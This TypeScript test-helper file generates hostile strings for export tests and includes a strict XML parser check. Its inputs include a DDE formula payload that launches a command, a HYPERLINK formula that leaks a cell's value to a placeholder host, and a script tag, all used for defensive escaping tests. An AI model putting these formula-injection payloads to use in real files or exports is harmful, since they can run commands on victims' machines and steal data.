/**
 * Hostile user text for the export tests: a fast-check arbitrary mixing XML metacharacters, formula starters,
 * control characters, emoji, right-to-left text and lone surrogates; one fixed adversarial set; a strict XML check.
 */
import fc from 'fast-check'
import { SaxesParser } from 'saxes'
import type { FixtureTexts } from './fixture.testdata'

/** Parses `xml` strictly (throws on the first well-formedness error) and returns its character data, in order. */
export function strictXmlText(xml: string): string[] {
  const parser = new SaxesParser({ xmlns: true })
  const texts: string[] = []
  parser.on('text', (t) => texts.push(t))
  parser.on('error', (e) => {
    throw e
  })
  parser.write(xml).close()
  return texts
}

const SPECIALS = [
  '&',
  '<',
  '>',
  '"',
  "'",
  '&amp;',
  ']]>',
  '<!--',
  '<![CDATA[',
  '=',
  '+',
  '-',
  '@',
  ' ',
  "=cmd|' /C calc'!A0",
  '\u0000',
  '\u0001',
  '\u0008',
  '\u000b',
  '\u000c',
  '\u001b',
  '\u001f',
  '\t',
  '\r',
  '\n',
  '\u007f',
  '\u0085',
  '\u2028',
  '😀',
  '👩🏽‍⚕️',
  'مستشفى',
  'בית חולים',
  '\u202e',
  '\u200f',
  '\ufeff',
  '\ufffe',
  '\uffff',
  '\ud800',
  '\udfff',
  "St. Mary's Hospital & Medical Center"
]
const hostile = fc.string({
  unit: fc.oneof(fc.constantFrom(...SPECIALS), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })),
  minLength: 1,
  maxLength: 10
})
export const hostileTexts: fc.Arbitrary<FixtureTexts> = fc.record({
  names: fc.uniqueArray(hostile, { minLength: 4, maxLength: 4 }),
  posts: fc.array(hostile, { minLength: 2, maxLength: 2 }),
  source: hostile
})

/** One fixed set, for the slow checks (LibreOffice) and as a regression example for the property runs. */
export const ADVERSARIAL: FixtureTexts = {
  names: [
    "St. Mary's Hospital & Medical Center",
    'A <b>bold</b> "clinic"',
    'مستشفى 😀 \u202eRTL',
    'Ctrl\u0000\u0001\u000b\u001fChars\r\n'
  ],
  posts: ['=HYPERLINK("http://x/?leak="&A2,"click")', '<script>&amp;\ud800'],
  source: 'R&D <exports>.csv'
}
